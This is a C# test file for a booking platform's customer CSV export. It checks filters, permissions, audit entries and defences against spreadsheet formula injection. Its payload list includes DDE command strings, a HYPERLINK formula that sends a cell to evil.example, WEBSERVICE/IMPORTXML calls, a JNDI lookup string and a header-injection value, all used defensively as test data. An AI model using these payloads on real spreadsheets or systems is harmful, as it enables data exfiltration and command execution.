using System.Globalization;
using System.Net.Http.Headers;
using BookingPlatform.Customers.AddressBook;
using BookingPlatform.Kernel.Data;
using BookingPlatform.Testing;
using CsvHelper;
using FluentAssertions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace BookingPlatform.Customers.Tests;

public sealed class Exporting
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000＝", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", "\u202e@", "\u2028+", "  \t -", "\u0001="];
    private static readonly string[] Payloads =
    [
        "HYPERLINK(\"http://evil.example?\"&A1,\"Click\")", "cmd|'/c calc'!A0", "1+1", "SUM(A:A)", "IMPORTXML(\"http://e.example\",\"//a\")", "WEBSERVICE(\"http://e.example/\"&B2)",
        "DDE(\"cmd\";\"/C calc\";\"x\")", "2+5+cmd|' /C calc'!A0", "rundll32|'URL.dll,OpenURL calc.exe'!A", "IMPORTDATA(\"//e\")", "IMAGE(\"x\")", "a\nb", "\"", "\"\"", "';!", ",;\t|",
        "{{7*7}}", "${jndi:ldap://x}", "0912", "Ärger", "小明", "\r\nBcc: x@y.example", "<script>", "'", "@@", "+351 912",
    ];

    [Fact, Trait("Criterion", "S1-13"), Trait("Criterion", "H-cve-export-formulas")]
    public void No_payload_is_left_that_a_spreadsheet_would_run_and_every_one_reads_back()
    {
        var cells = Starts.SelectMany(start => Payloads.Select(payload => start + payload)).Concat(Payloads).ToList();
        cells.Should().HaveCountGreaterThan(500);

        var read = Through(cells);

        for (var at = 0; at < cells.Count; at++)
        {
            IsRun(read[at]).Should().BeFalse("{0} was written for {1}", read[at], cells[at]);
            Spreadsheets.WithoutGuard(read[at]).Should().Be(cells[at]);
        }

        cells.Count(IsRun).Should().BeGreaterThan(500, "else the payloads would prove nothing");
        Through(["Anna", "O'Neil", "'s-Gravenhage", "Müller-Lüdenscheidt", "a=b", "12"]).Should().Equal("Anna", "O'Neil", "'s-Gravenhage", "Müller-Lüdenscheidt", "a=b", "12");
    }

    [Theory, OnEveryDatabase, Trait("Criterion", "S1-14"), Trait("Criterion", "S1-18")]
    public async Task What_a_filter_list_or_selection_leaves_is_exported_with_its_states_and_told(Db db)
    {
        var platform = await Platform.On(db);
        var business = await platform.NewBusiness();
        var anna = await Finding.Add(business, "Anna", "Abel", "x7@guest.booking.com", null);
        var ben = await Finding.Add(business, "Ben", "Berg", null, null);
        var cleo = await Finding.Add(business, "Cleo", "Cane", "cleo@x.example", null);
        await Filtering.Set(business, customer => customer.Id == ben, "Owes for last time");
        await Filtering.Seen(business, ben, new(2026, 5, 1));
        foreach (var name in new[] { "VIP", "Choir" })
        {
            var list = await CustomerLists.Make(business, name);
            (await business.Put($"customer-lists/{list}/members/{ben}", new { })).Expect(204);
        }

        var vip = (Guid)(await business.Get("customer-lists"))["items"]![1]!["id"]!;
        async Task<string[]> Names(string query) => Cells((await business.Get($"customers.csv?{query}")).Expect(200)).Skip(1).Select(row => row[0]).ToArray();

        (await Names("")).Should().Equal("Anna", "Ben", "Cleo");
        (await Names("flagged=true")).Should().Equal("Ben");
        (await Names($"listId={vip}&lastVisitTo=2026-05-01")).Should().Equal("Ben");
        (await Names("q=cle")).Should().Equal("Cleo");
        (await Names("q=a%20zz")).Should().BeEmpty();
        (await Names("emailState=relay,unverified")).Should().Equal("Anna", "Cleo");
        (await Names($"id={anna}&id={cleo}&id={Guid.NewGuid()}")).Should().Equal("Anna", "Cleo");
        (await business.Get("customers.csv?lastVisitFrom=2026-02-01&lastVisitTo=2026-01-01")).ExpectProblem(422, "validation");
        (await business.Get("customers.csv?id=7")).Status.Should().BeInRange(400, 422);

        var all = Cells(await business.Get("customers.csv"));
        all[0].Should().ContainInOrder("Email state", "Alert", "Lists", "Last visit");
        all[2].Should().ContainInOrder("placeholder", "Owes for last time", "Choir; VIP", "2026-05-01");
        all[1].Should().Contain("relay");
        (await Told(business)).Should().Contain(sentence => sentence.StartsWith("All 3 customers exported", StringComparison.Ordinal))
            .And.Contain(sentence => sentence.StartsWith("1 customer (on the list “VIP”, last visit until 2026-05-01) exported", StringComparison.Ordinal))
            .And.Contain(sentence => sentence.StartsWith("2 customers (selected by hand) exported", StringComparison.Ordinal));
    }

    [Fact, Trait("Criterion", "S1-14")]
    public async Task Who_may_not_see_customers_gets_no_alerts_with_the_export()
    {
        var platform = await Platform.On(Db.Sqlite);
        var business = await platform.NewBusiness();
        await Finding.Add(business, "Ben", "Berg", null, null);
        await Filtering.Set(business, customer => customer.FirstName == "Ben", "Owes for last time");
        var key = await platform.NewKey(business, Kernel.Web.Right.ExportCustomers);

        var file = (await business.Send(HttpMethod.Get, "customers.csv", null, request => request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", key))).Expect(200);

        file.Text.Should().Contain("Berg").And.NotContain("Owes").And.NotContain("Alert");
    }

    [Theory, OnEveryDatabase, Trait("Criterion", "S2-25")]
    public async Task The_report_of_customers_holds_the_alert_messages(Db db)
    {
        var platform = await Platform.On(db);
        var business = await platform.NewBusiness();
        await Finding.Add(business, "Anna", "Abel", null, null);
        var ben = await Finding.Add(business, "Ben", "Berg", "ben@x.example", null);
        await Filtering.Set(business, customer => customer.Id == ben, "=Owes <b>for</b> last time");

        var page = await business.Get("reports/customers?sort=flagged&limit=1");
        page.Names().Should().Equal("Ben Berg");
        ((string)page["items"]![0]!["alertMessage"]!).Should().Be("=Owes <b>for</b> last time");
        (await business.Get($"reports/customers?sort=flagged&limit=1&cursor={page["nextCursor"]}")).Names().Should().Equal("Anna Abel");
        var rows = Cells((await business.Get("reports/customers?format=csv&flagged=true")).Expect(200));
        rows[0].Should().StartWith(["Last name", "First name", "Alert", "Lists", "Last visit", "Email", "Email state"]);
        rows[1].Should().StartWith(["Berg", "Ben", "'=Owes <b>for</b> last time"]);
        rows.Should().HaveCount(2);
        (await business.Get("reports/customers?format=xml")).ExpectProblem(422, "validation");
        (await Told(business)).Should().ContainSingle().Which.Should().StartWith("1 customer (flagged) exported to report-customers-");
        var key = await platform.NewKey(business, Kernel.Web.Right.SeeCustomers, Kernel.Web.Right.ExportCustomers);
        (await business.Send(HttpMethod.Get, "reports/customers", null, request => request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", key))).Status.Should().Be(403);
    }

    /// <summary>As a spreadsheet looks: past everything invisible at the first sign that it sees.</summary>
    private static bool IsRun(string cell) => cell.FirstOrDefault(sign => !char.IsWhiteSpace(sign) && char.GetUnicodeCategory(sign) is not (UnicodeCategory.Format or UnicodeCategory.Control)) is '=' or '+' or '-' or '@' or '＝' or '＋' or '－' or '＠'
        || cell is ['\t' or '\r', ..];

    private static List<string> Through(IEnumerable<string> cells)
    {
        using var file = new MemoryStream();
        using (var csv = Spreadsheets.Writer(file))
            foreach (var cell in cells)
            {
                csv.WriteInert(cell);
                csv.WriteInert("end");
                csv.EndRecord();
            }

        file.Position = 0;
        using var reader = CsvReader.Create(file, new CsvReaderOptions { HasHeader = false, Separator = ',' });
        var read = new List<string>();
        while (reader.Read())
            read.Add(reader.GetString(0));
        return read;
    }

    private static List<string[]> Cells(ApiAnswer answer)
    {
        using var reader = CsvReader.Create(new MemoryStream(answer.Bytes), new CsvReaderOptions { HasHeader = false, Separator = ',' });
        var rows = new List<string[]>();
        while (reader.Read())
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        return rows;
    }

    private static Task<List<string>> Told(TestBusiness business) => business.Platform.Inside(business, services =>
        services.GetRequiredService<KernelDb>().Audit.Where(entry => entry.Action == "customers.exported").OrderBy(entry => entry.Id).Select(entry => entry.Sentence).ToListAsync());
}
